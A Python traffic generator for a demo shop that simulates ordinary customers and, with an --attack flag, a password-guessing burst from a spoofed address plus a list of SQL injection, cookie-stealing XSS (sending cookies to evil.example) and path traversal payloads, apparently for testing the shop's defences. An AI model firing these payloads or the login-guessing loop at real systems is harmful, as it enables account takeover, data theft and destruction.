"""``python -m shop.traffic``: the shop's customers; with ``--attack``, somebody who is none.

Customers browse, search, sign in, order and pay at a steady average rate. ``--attack`` is one burst
of guessed passwords for many accounts and of injection attempts, all from one address, and ends.
Both write JSON lines of counts to standard output.
"""

import argparse
import asyncio
import json
import random
import signal
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

import httpx

from shop.database import DEMO_CUSTOMERS, DEMO_PASSWORD

AT_ONCE = 64
"""Requests in progress; beyond it customers do not come in, which is counted."""
CARD = "4242424242424242"
DECLINED_CARD = "4000000000000002"
ATTACKER = "203.0.113.66"
_SEARCHES = (
    "cat",
    "夏",
    "train",
    "stone",
    "Tanaka",
    "lo-fi",
    "光",
    "light",
    "O'Hara",
    "brush",
    "木漏れ日",
    "paper & ink",
)
_CATEGORIES = ("illustration", "photo", "music", "model", "story", "tool")
_COMMON_NAMES = ("admin", "root", "test", "info", "sales", "support", "yuki", "kenji", "hana", "alex", "maria", "john")
_INJECTIONS = (
    ("/works/search", {"q": "' OR '1'='1"}),
    ("/works/search", {"q": "x' UNION SELECT email, password FROM accounts--"}),
    ("/works/search", {"q": "1; DROP TABLE orders--"}),
    ("/works", {"category": "music' AND pg_sleep(5)--"}),
    ("/works/search", {"q": "<script>document.location='//evil.example/'+document.cookie</script>"}),
    ("/works/search", {"q": '"><img src=x onerror=alert(1)>'}),
    ("/works/search", {"q": "../../../../etc/passwd"}),
    ("/works", {"category": "..\\..\\windows\\win.ini"}),
)


class Customers:
    """Drives a shop at ``url``. Counts by outcome and by what the customer did."""

    def __init__(self, client: httpx.AsyncClient, seed: int | None = None) -> None:
        self._client = client
        self._random = random.Random(seed)
        self._tokens: list[str] = []
        self.outcomes: Counter[str] = Counter()
        self.actions: Counter[str] = Counter()
        self.away_until = 0.0
        weights: list[tuple[Callable[[], Awaitable[None]], int]] = [
            (self._browse, 38),
            (self._look, 24),
            (self._search, 18),
            (self._buy, 7),
            (self._sign_in, 5),
            (self._sign_up, 1),
        ]
        self._choices = [choice for choice, _ in weights]
        self._weights = [weight for _, weight in weights]

    async def one(self) -> None:
        """One customer does one thing; never raises for what the shop does."""
        action = self._random.choices(self._choices, self._weights)[0]
        self.actions[action.__name__.removeprefix("_")] += 1
        try:
            await action()
        except httpx.TimeoutException:
            self.outcomes["timed_out"] += 1
        except httpx.HTTPError:
            self.outcomes["unreachable"] += 1
            self.away_until = time.monotonic() + 0.5

    async def _send(self, method: str, path: str, **more: object) -> httpx.Response:
        response = await self._client.request(method, path, **more)  # type: ignore[arg-type]
        group = {2: "ok", 4: "client_error", 5: "server_error"}.get(response.status_code // 100, "other")
        self.outcomes[group] += 1
        return response

    async def _browse(self) -> None:
        parameters: dict[str, str | int] = {"limit": 24, "offset": 24 * self._random.randrange(4)}
        if self._random.random() < 0.5:
            parameters = {"category": self._random.choice(_CATEGORIES)}
        await self._send("GET", "/works", params=parameters)

    async def _look(self) -> None:
        await self._send("GET", f"/works/{self._random.randint(1, 96)}")

    async def _search(self) -> None:
        await self._send("GET", "/works/search", params={"q": self._random.choice(_SEARCHES)})

    async def _sign_in(self) -> None:
        name = self._random.choice(DEMO_CUSTOMERS)
        mistyped = self._random.random() < 0.03
        response = await self._send(
            "POST",
            "/session",
            json={"email": f"{name}@example.com", "password": DEMO_PASSWORD + "r" * mistyped},
        )
        if response.status_code == 200:
            self._tokens = [*self._tokens[-19:], response.json()["token"]]

    async def _sign_up(self) -> None:
        email = f"visitor-{self._random.getrandbits(48):x}@example.com"
        await self._send("POST", "/accounts", json={"email": email, "name": "Visitor", "password": DEMO_PASSWORD})

    async def _buy(self) -> None:
        if not self._tokens:
            await self._sign_in()
        if not self._tokens:
            return
        token = self._random.choice(self._tokens)
        headers = {"Authorization": f"Bearer {token}"}
        work = self._random.randint(1, 96)
        order = await self._send("POST", "/orders", json={"work_id": work}, headers=headers)
        if order.status_code == 401 and token in self._tokens:
            self._tokens.remove(token)
        if order.status_code != 201:
            return
        await asyncio.sleep(self._random.uniform(0.05, 0.4))
        card = DECLINED_CARD if self._random.random() < 0.02 else CARD
        await self._send("POST", f"/orders/{order.json()['id']}/pay", json={"card_number": card}, headers=headers)


async def drive(url: str, rate: float, seconds: float, report_every: float) -> int:
    """Send about ``rate`` requests a second until SIGTERM, or for ``seconds`` when not 0."""
    stop = asyncio.Event()
    for number in (signal.SIGTERM, signal.SIGINT):
        asyncio.get_running_loop().add_signal_handler(number, stop.set)
    limits = httpx.Limits(max_connections=AT_ONCE, max_keepalive_connections=AT_ONCE)
    async with httpx.AsyncClient(base_url=url, timeout=10.0, limits=limits, trust_env=False) as client:
        customers = Customers(client)
        running: set[asyncio.Task[None]] = set()
        # Buying is two requests, so fewer customers than requests come a second.
        visits = rate / 1.08
        began = due = time.monotonic()
        report_at = began + report_every
        while not stop.is_set() and not (seconds and time.monotonic() - began >= seconds):
            due += random.expovariate(visits)
            now = time.monotonic()
            if now >= report_at:
                _report(customers, now - began)
                report_at = now + report_every
            due = max(due, now - 1.0)  # after a pause, do not make up for more than a second
            if due > now:
                await _sleep(stop, due - now)
            if time.monotonic() < customers.away_until or len(running) >= AT_ONCE:
                customers.outcomes["stayed_away"] += 1
                continue
            task = asyncio.create_task(customers.one())
            running.add(task)
            task.add_done_callback(running.discard)
        for task in list(running):
            task.cancel()
        await asyncio.gather(*running, return_exceptions=True)
        _report(customers, time.monotonic() - began, final=True)
    return 0


async def attack(url: str, logins: int, rate: float, address: str) -> int:
    """Guess passwords of many accounts, then try injections; exit code 1 when the shop cannot be reached."""
    headers = {"X-Forwarded-For": address, "User-Agent": "Mozilla/5.0 (compatible; pwn-kit/0.3)"}
    outcomes: Counter[str] = Counter()
    limits = httpx.Limits(max_connections=8)
    names = [*DEMO_CUSTOMERS, *_COMMON_NAMES]
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=20.0, limits=limits, trust_env=False) as client:

        async def send(kind: str, method: str, path: str, **more: object) -> None:
            for pause in (0.5, 1.0, 2.0, 4.0, 8.0, None):
                try:
                    response = await client.request(method, path, **more)  # type: ignore[arg-type]
                except httpx.HTTPError:
                    if pause is not None:
                        await asyncio.sleep(pause)  # a shop that is being restarted comes back
                        continue
                    outcomes[f"{kind}_unreachable"] += 1
                else:
                    outcomes[f"{kind}_{response.status_code}"] += 1
                return

        tasks = []
        for number in range(logins):
            email = f"{names[number % len(names)]}{'' if number < len(names) else number}@example.com"
            body = {"email": email, "password": f"letmein{number}"}
            tasks.append(asyncio.create_task(send("login", "POST", "/session", json=body)))
            await asyncio.sleep(1 / rate)
        await asyncio.gather(*tasks)
        for path, parameters in _INJECTIONS:
            await send("injection", "GET", path, params=parameters)
    sys.stdout.write(json.dumps({"attack": dict(sorted(outcomes.items())), "from": address}) + "\n")
    return 0 if any(not name.endswith("unreachable") for name in outcomes) else 1


async def _sleep(stop: asyncio.Event, seconds: float) -> None:
    try:
        async with asyncio.timeout(seconds):
            await stop.wait()
    except TimeoutError:
        return


def _report(customers: Customers, seconds: float, *, final: bool = False) -> None:
    line = {"seconds": round(seconds, 1), **dict(sorted(customers.outcomes.items())), "did": dict(customers.actions)}
    sys.stdout.write(json.dumps({"final": True, **line} if final else line) + "\n")
    sys.stdout.flush()


def main(arguments: list[str] | None = None) -> int:
    """Parse the command line, drive or attack."""
    parser = argparse.ArgumentParser(prog="python -m shop.traffic", description="Customers for the shop.")
    parser.add_argument("--url", default="http://127.0.0.1:3001")
    parser.add_argument("--rate", type=float, default=18.0, help="requests a second, on average")
    parser.add_argument("--seconds", type=float, default=0.0, help="stop after this long; 0 is on SIGTERM only")
    parser.add_argument("--report-every", type=float, default=5.0, help="seconds between lines of counts")
    parser.add_argument("--attack", action="store_true", help="one burst of failed logins and injections, then end")
    parser.add_argument("--attack-logins", type=int, default=60)
    parser.add_argument("--attack-rate", type=float, default=15.0, help="guesses a second")
    parser.add_argument("--attack-from", default=ATTACKER, help="the address that the attack comes from")
    options = parser.parse_args(arguments)
    if options.rate <= 0 or options.attack_rate <= 0:
        parser.error("rates must be greater than 0")
    if options.attack:
        return asyncio.run(attack(options.url, options.attack_logins, options.attack_rate, options.attack_from))
    return asyncio.run(drive(options.url, options.rate, options.seconds, options.report_every))


if __name__ == "__main__":
    sys.exit(main())
